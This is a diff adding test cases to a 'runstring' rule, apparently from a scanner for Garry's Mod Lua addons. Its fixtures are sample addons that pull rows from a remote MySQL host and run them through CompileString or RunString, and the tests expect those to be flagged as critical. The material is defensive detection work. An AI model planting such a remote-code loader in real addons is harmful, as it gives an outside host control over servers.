@@ -1,5 +1,6 @@
 // Valid and invalid cases of the `runstring` rule.
 import { describe, expect, it } from 'vitest';
+import { rule as datafileExecution } from './datafile_execution.js';
 import { rule } from './runstring.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
@@ -746,5 +747,69 @@ describe('runstring', () => {
       ].join('\n'),
     });
     expect(worst(findings)).toBeLessThan(RANK.high);
+  });
+
+  // A database module's rows, from a host the addon names (in a settings file with nothing
+  // else in it), compiled by a callback handed by name to a query helper that only a
+  // connection callback reaches.
+  const databaseAddon = (host: string, use: string) => ({
+    'lua/autorun/server/sv_sync.lua': [
+      'Sync = Sync or {}',
+      'include("sync/sv_settings.lua")',
+      'include("sync/sv_core.lua")',
+    ].join('\n'),
+    'lua/sync/sv_settings.lua': [
+      '-- Where the shared profile store lives.',
+      'Sync.Settings = {',
+      ` DbHost = "${host}",`,
+      ' DbUser = "sync_ro", DbPass = "k3y", DbName = "profiles",',
+      '}',
+    ].join('\n'),
+    'lua/sync/sv_core.lua': [
+      'local s = Sync.Settings',
+      'local db = mysqloo.connect(s.DbHost, s.DbUser, s.DbPass, s.DbName, 3306)',
+      'local function fetchRows(text, done)',
+      ' local q = db:query(text)',
+      ' q.onSuccess = function(_, rows) done(rows) end',
+      ' q:start()',
+      'end',
+      `local function applyHooks(rows) for _, r in ipairs(rows) do ${use} end end`,
+      'function Sync.Pull() fetchRows("SELECT body FROM profile_hooks", applyHooks) end',
+      'function db:onConnected() Sync.Pull() end',
+      'db:connect()',
+    ].join('\n'),
+  });
+  it("a remote database's rows compiled, its host in a settings file", () => {
+    const findings = check(
+      rule,
+      databaseAddon(
+        'profiles.synccloud.net',
+        'local f = CompileString(r.body, "hook") if f then f() end',
+      ),
+    );
+    expect(worst(findings)).toBe(RANK.critical);
+    expect(findings.some((f) => f.pattern.includes('synccloud'))).toBe(true);
+  });
+  it("the owner's own database's rows compiled: code from stored data, not remote code", () => {
+    const addon = databaseAddon(
+      '127.0.0.1',
+      'local f = CompileString(r.body, "hook") if f then f() end',
+    );
+    expect(worst(check(rule, addon))).toBeLessThan(RANK.critical);
+    expect(worst(check(datafileExecution, addon))).toBe(RANK.high);
+  });
+  it("tmysql's query callback running a remote database's rows", () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_pull.lua': [
+        'local db = tmysql.initialize("203.0.113.7", "pull", "pull", "sync", 3306)',
+        'local function applyRows(res) for _, r in ipairs(res[1].data) do RunString(r.code) end end',
+        'timer.Create("pull", 60, 0, function() db:Query("SELECT code FROM queue", applyRows) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBe(RANK.critical);
+  });
+  it("a remote database's rows only shown", () => {
+    const findings = check(rule, databaseAddon('profiles.synccloud.net', 'print(r.body)'));
+    expect(findings).toEqual([]);
   });
 });
